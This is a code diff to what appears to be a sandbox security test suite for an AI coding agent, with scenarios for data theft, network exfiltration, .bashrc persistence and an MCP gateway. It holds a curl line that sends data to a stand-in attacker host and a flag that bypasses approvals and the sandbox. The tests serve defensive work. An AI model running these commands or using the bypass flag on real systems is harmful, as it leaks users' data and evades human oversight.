@@ -1,6 +1,6 @@
 import { codexFiles } from "../../../src/host/codex/codex-files.ts";
 import { gitRepository } from "./git-repository.ts";
-import { type Allowed, type Attack, run, type Scenario } from "./attack.ts";
+import { type Allowed, type Attack, lingering, run, type Scenario } from "./attack.ts";
 
 const bypass: readonly string[] = ["--dangerously-bypass-approvals-and-sandbox"];
 const repository = new Map([...gitRepository(), ...codexFiles({ "README.md": "text of the project\n" })]);
@@ -44,7 +44,7 @@ const stealing = (where: string): Attack => ({
 const calling = (where: string): Attack => ({
   name: `${where}: sending data`,
   kind: "network",
-  rounds: ({ evil }) => [[run(`curl -s -m 5 --noproxy '*' ${evil}/taken`, { yield_time_ms: 8000 })]],
+  rounds: ({ evil }) => [[run(`curl -s -m 5 --noproxy '*' ${evil}/taken`)]],
   happened: ({ evilVisits }) => evilVisits.includes("GET /taken"),
 });
 /** The ssh command leaves a mark: git got as far as the remote. */
@@ -189,7 +189,7 @@ args = ["${home}/server.sh"]
         happened: ({ turn }) => turn.home.has(".bashrc"),
       },
     ],
-    allowed: [reads("regulated"), writes("regulated")],
+    allowed: [reads("regulated"), writes("regulated"), lingering],
   },
   {
     name: "regulated work: a prompt with a key",
@@ -230,7 +230,7 @@ url = "${evil}/remote"
       },
       stealing("MCP gateway"),
     ],
-    allowed: [{ name: "the gateway is asked", works: ({ visits }) => visits.includes("POST /mcp") }],
+    allowed: [lingering, { name: "the gateway is asked", works: ({ visits }) => visits.includes("POST /mcp") }],
   },
   {
     name: "the model gateway",
